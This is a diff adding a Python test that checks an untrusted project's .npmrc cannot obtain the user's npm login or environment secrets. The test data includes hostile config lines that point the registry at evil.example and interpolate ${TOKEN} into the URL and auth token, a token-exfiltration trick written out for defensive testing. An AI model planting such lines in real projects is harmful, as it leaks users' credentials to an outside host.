@@ -46,6 +46,18 @@ def test_a_login_of_npm_is_for_its_place_alone(tmp_path: Path) -> None:
     assert npm_source(elsewhere, environment, None).headers == {}
 
 
+def test_a_directory_of_a_stranger_gets_no_secret(tmp_path: Path) -> None:
+    """It may name the registry, as it may for npm, and neither a login nor a variable of the user."""
+    (tmp_path / "home").mkdir()
+    (tmp_path / "home" / ".npmrc").write_text("//mine.example/:_authToken=mine\n")
+    lines = ("registry=https://evil.example/${TOKEN}", "//evil.example/:_authToken=${TOKEN}", "userconfig=/etc/x")
+    (tmp_path / ".npmrc").write_text("\n".join(lines))
+    environment = {"HOME": str(tmp_path / "home"), "TOKEN": "s3cret"}
+    source = npm_source(use_of("npx x"), environment, tmp_path)
+    assert source.url == "https://evil.example/${TOKEN}"
+    assert source.headers == {}
+
+
 def test_uv_asks_its_further_indexes_before_the_default(tmp_path: Path) -> None:
     folder = tmp_path / "uv"
     folder.mkdir()
